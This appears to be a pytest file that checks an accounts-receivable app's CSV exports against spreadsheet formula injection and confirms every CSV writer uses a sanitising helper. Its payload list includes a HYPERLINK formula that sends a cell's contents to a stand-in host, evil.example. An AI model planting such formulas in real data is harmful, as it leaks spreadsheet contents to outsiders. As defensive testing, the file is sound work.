"""Every CSV we write neutralises cells a spreadsheet would run as a formula (OWASP).

The two exports (the dashboard's chart CSVs, `relance worklist --format csv`) are read
back as a spreadsheet would see them; a scan of the source makes sure that a CSV writer
added later goes through printing/csvsafe.py too.
"""

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
import time_machine

from printing.csvsafe import cell
from receivables.models import Customer, Invoice
from tests.api.conftest import (  # noqa: F401
    AS_OF,
    _fast_passwords,
    dunning_company,
    media,
)
from tests.cli.conftest import relance

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Payer ici")',
    "=2+5",
    "+2+5",
    "-2+5",
    "@SUM(A1:A9)",
    "\t=2+5",
    "\r=2+5",
]


def _risky(value: str) -> bool:
    return value[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_customers(dunning_company):  # noqa: F811
    """One customer per payload, each with an invoice 40 days late on AS_OF whose
    number and description carry the payload too."""
    for n, payload in enumerate(PAYLOADS):
        who = Customer.objects.create(
            company=dunning_company, code=f"F{n}", name=payload, contact_name=payload
        )
        Invoice.objects.create(
            company=dunning_company,
            customer=who,
            number=payload[:30] + str(n),
            issue_date=date(2026, 1, 1),
            due_date=date(2026, 1, 29),
            amount=Decimal("120.00"),
            description=payload,
        )


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def _chart(client, chart: str) -> list[list[str]]:
    """A dashboard CSV as a French user's spreadsheet reads it (« ; », BOM)."""
    return _cells(client.get(f"/insight/{chart}.csv").content.decode("utf-8-sig"), ";")


def test_the_overdue_chart_csv_neutralises_formulas(client, alice, formula_customers):
    client.force_login(alice)
    with time_machine.travel(date.fromisoformat(AS_OF), tick=False):
        for chart in ("aging", "dso", "overdue", "effectiveness"):
            rows = _chart(client, chart)
            assert not [c for row in rows for c in row if _risky(c)], chart
    rows = _chart(client, "overdue")
    names = {row[0] for row in rows[1:]}
    assert "'=2+5" in names and "'-2+5" in names and "'\t=2+5" in names
    assert all(row[2] == "120,00" for row in rows[1:])  # numbers stay numbers


def test_the_worklist_csv_neutralises_formulas(dunning_company, formula_customers):  # noqa: F811
    pytest.importorskip("receivables.worklist")
    from dunning.scan import scan

    scan(dunning_company, date.fromisoformat(AS_OF))
    run = relance("worklist", "--as-of", AS_OF, "--format", "csv")
    assert run.code == 0, run.err
    rows = list(csv.DictReader(io.StringIO(run.out)))
    assert len(rows) == len(PAYLOADS)
    assert not [v for row in rows for v in row.values() if _risky(v)]
    assert {r["customer"] for r in rows} == {"'" + p for p in PAYLOADS}
    assert {r["amount"] for r in rows} == {"120.00"}


def test_numbers_we_format_keep_their_sign_text_does_not():
    assert cell(Decimal("-120.00")) == Decimal("-120.00")  # a credit note adds up
    assert cell(-3) == -3
    assert cell("-120.00") == "'-120.00"  # typed text: a formula for all we know
    assert cell("Dupont - Fils") == "Dupont - Fils"
    assert cell(None) == ""


WRITES_CSV = re.compile(r"csv\.(writer|DictWriter)\(|text/csv")


def test_every_csv_we_write_goes_through_csvsafe():
    sources = [
        p
        for p in ROOT.rglob("*.py")
        if not {".venv", "tests", "migrations"} & set(p.relative_to(ROOT).parts)
        and p.relative_to(ROOT).parts[0] not in {"var", "bench", "build"}
    ]
    assert len(sources) > 50
    writers = [p for p in sources if WRITES_CSV.search(p.read_text(encoding="utf-8"))]
    unsafe = [
        str(p.relative_to(ROOT))
        for p in writers
        if p.name != "csvsafe.py" and "csvsafe" not in p.read_text(encoding="utf-8")
    ]
    assert writers, "the exports were not found: is the pattern still right?"
    assert not unsafe, f"CSV written without printing.csvsafe: {unsafe}"
